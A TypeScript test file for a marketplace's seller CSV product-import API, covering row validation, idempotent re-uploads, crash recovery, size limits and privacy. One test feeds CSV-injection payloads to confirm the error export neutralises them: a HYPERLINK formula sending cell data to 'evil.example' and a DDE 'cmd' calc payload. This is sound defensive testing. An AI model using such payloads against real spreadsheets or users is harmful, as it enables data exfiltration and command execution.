import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerSeller } from '../../../tests/support/accounts';
import { ApiClient } from '../../../tests/support/client';
import { startTestApp, type TestApp } from '../../../tests/support/app';
import { waitFor } from '../../../tests/support/process';

let app: TestApp;
let seller: ApiClient;
let leaf: string;

beforeAll(async () => {
  app = await startTestApp();
  await app.core.categories.createMany([
    { id: 'cat_fashion', slug: 'fashion', name: 'Fashion', nameZh: '服装', parentId: null },
    { id: 'cat_tees', slug: 'tees', name: 'T-shirts', nameZh: 'T恤', parentId: 'cat_fashion' },
  ]);
  leaf = 'tees';
  seller = await registerSeller(app, { name: 'Importer', shopName: 'Import Co' });
});
afterAll(() => app?.close());

function upload(csv: string, name = 'products.csv') {
  return seller.request('POST', '/api/seller/imports', {
    body: csv,
    headers: { 'content-type': 'text/csv', 'x-file-name': name },
  });
}

async function finished(id: string) {
  return waitFor(
    async () => {
      const res = await seller.get(`/api/seller/imports/${id}`);
      return ['completed', 'failed'].includes(res.body.status) ? res.body : null;
    },
    60_000,
    'import to finish',
  );
}

describe('CSV import', () => {
  it('imports the downloaded template as it is: its example is in a real category of the site', async () => {
    const template = await seller.get('/api/seller/imports/template.csv');
    expect(template.status).toBe(200);
    const rows = parse(String(template.body), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.category)).toEqual([leaf, leaf]);
    const res = await upload(String(template.body), 'product-import-template.csv');
    expect(res.status).toBe(202);
    const done = await finished(res.body.id);
    expect(done).toMatchObject({ status: 'completed', succeeded: 2, failed: 0, errors: [] });
    const tee = (await seller.get('/api/seller/products')).body.items.find(
      (p) => p.name === 'Cotton Crew Tee',
    );
    expect(tee?.variants.map((v) => v.sku)).toEqual(['TEE-BLK-M', 'TEE-BLK-L']);
  });

  it('lands good rows, groups variants by handle, and reports bad rows by line and field', async () => {
    const csv = [
      'handle,sku,name,name_zh,brand,category,variant_title,price,stock,attributes',
      `tee,TEE-1-M,Crew Tee,圆领T恤,Basics,${leaf},M,79.00,10,size=M`,
      `tee,TEE-1-L,Crew Tee,圆领T恤,Basics,${leaf},L,89.5,4,size=L`,
      `,TEE-2,Polo,,Basics,${leaf},,abc,3,`, // line 4: bad price
      `,TEE-3,Henley,,Basics,nowhere,,59,1,`, // line 5: unknown category
      `,TEE-4,,,Basics,${leaf},,59,1,`, // line 6: missing name
      `,TEE-5,Tank,,Basics,${leaf},,39,-2,`, // line 7: bad stock
      `,TEE-6,Raglan,,Basics,${leaf},,49,0,colour`, // line 8: bad attributes
      `,TEE-7,Ringer,,Basics,${leaf},,49,7,color=White`,
    ].join('\n');
    const res = await upload(csv);
    expect(res.status).toBe(202);
    expect(res.body).toMatchObject({ status: 'queued', totalRows: 8, fileName: 'products.csv' });
    const done = await finished(res.body.id);
    expect(done).toMatchObject({ status: 'completed', processedRows: 8, succeeded: 3, failed: 5 });
    expect(done.errors.map((e: { line: number; field: string }) => [e.line, e.field])).toEqual([
      [4, 'price'],
      [5, 'category'],
      [6, 'name'],
      [7, 'stock'],
      [8, 'attributes'],
    ]);

    const own = (await seller.get('/api/seller/products')).body.items;
    const tee = own.find((p) => p.name === 'Crew Tee')!;
    expect(tee.variants.map((v) => [v.sku, v.price, v.available])).toEqual([
      ['TEE-1-M', 7900, 10],
      ['TEE-1-L', 8950, 4],
    ]);
    expect(own.some((p) => p.name === 'Ringer')).toBe(true);
  });

  it('applies a re-upload idempotently (same products, stock set to the file)', async () => {
    const csv = ['sku,name,category,price,stock', `RE-1,Again,${leaf},10,5`].join('\n');
    await finished((await upload(csv)).body.id);
    const second = await finished((await upload(csv.replace(',5', ',8'))).body.id);
    expect(second.succeeded).toBe(1);
    const items = (await seller.get('/api/seller/products?limit=100')).body.items as {
      name: string;
      variants: { available: number }[];
    }[];
    const again = items.filter((p) => p.name === 'Again');
    expect(again).toHaveLength(1);
    expect(again[0]!.variants[0]!.available).toBe(8);
  });

  it('finishes a product whose create was cut short by a crash (claims written, product not)', async () => {
    const shopId = (await seller.get('/api/auth/session')).body.user!.shopId!;
    // What a worker killed between claiming and inserting leaves behind.
    await app.database.connection
      .collection('product_handles')
      .insertOne({ _id: `${shopId}:half` as never, productId: 'prd_half' });
    await app.database.connection
      .collection('sku_claims')
      .insertOne({ _id: 'HALF-1' as never, productId: 'prd_half', shopId });
    const done = await finished(
      (
        await upload(
          ['handle,sku,name,category,price,stock', `half,HALF-1,Half Done,${leaf},20,3`].join('\n'),
        )
      ).body.id,
    );
    expect(done).toMatchObject({ succeeded: 1, failed: 0 });
    const product = (await seller.get('/api/products/prd_half')).body;
    expect(product).toMatchObject({ name: 'Half Done', variants: [{ sku: 'HALF-1', available: 3 }] });
  });

  it('rejects unusable files up front', async () => {
    const missing = await upload('sku,name\nA,B');
    expect(missing.status).toBe(422);
    expect(missing.error.message).toMatch(/missing column\(s\): category, price/);
    expect(missing.error.fields[0].field).toBe('body');
    expect((await upload('sku,name,category,price')).status).toBe(422);
    const notCsv = await seller.request('POST', '/api/seller/imports', {
      body: 'x',
      headers: { 'content-type': 'image/png' },
    });
    expect([415, 422]).toContain(notCsv.status);
  });

  it('refuses files over the size limit with 413', async () => {
    const big = 'sku,name,category,price\n' + 'A,B,tees,1\n'.repeat(2_200_000);
    const res = await upload(big);
    expect(res.status).toBe(413);
  });

  it('keeps imports private to their seller', async () => {
    const csv = ['sku,name,category,price', `PRIV-1,Private,${leaf},10`].join('\n');
    const id = (await upload(csv)).body.id;
    const other = await registerSeller(app, { name: 'O', shopName: 'Other' });
    expect((await other.get(`/api/seller/imports/${id}`)).status).toBe(404);
    expect((await new ApiClient(app.url).get('/api/seller/imports')).status).toBe(401);
  });

  it('offers the row errors as a CSV that reads back as the errors and runs no formula', async () => {
    const csv = [
      'sku,name,category,price,stock,attributes',
      `X-1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",=cmd|' /C calc'!A0,10,1,`,
      `X-2,Plain,${leaf},10,1,"@SUM(1,2)"`,
      `X-3,Minus,${leaf},-10,1,`,
    ].join('\n');
    const done = await finished((await upload(csv, '=report.csv')).body.id);
    expect(done.failed).toBe(3);

    const res = await seller.get(`/api/seller/imports/${done.id}/errors.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toContain('_report-errors.csv');
    const rows = parse(res.body) as string[][];
    expect(rows[0]).toEqual(['line', 'column', 'error']);
    const expected = (done.errors as { line: number; field: string; message: string }[]).map((e) => [
      String(e.line),
      e.field,
      /^[=+\-@\t\r]/.test(e.message) ? `'${e.message}` : e.message,
    ]);
    expect(rows.slice(1)).toEqual(expected);
    expect(rows.slice(1).map((r) => r[0])).toEqual(['2', '3', '4']);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const stranger = new ApiClient(app.url);
    const reg = await stranger.post('/api/auth/register', {
      email: `stranger${Date.now()}@example.com`,
      password: 'long enough password',
      name: 'Stranger',
      role: 'seller',
      shopName: 'Other Co',
    });
    stranger.csrfToken = reg.body.csrfToken;
    expect((await stranger.get(`/api/seller/imports/${done.id}/errors.csv`)).status).toBe(404);
  });
});
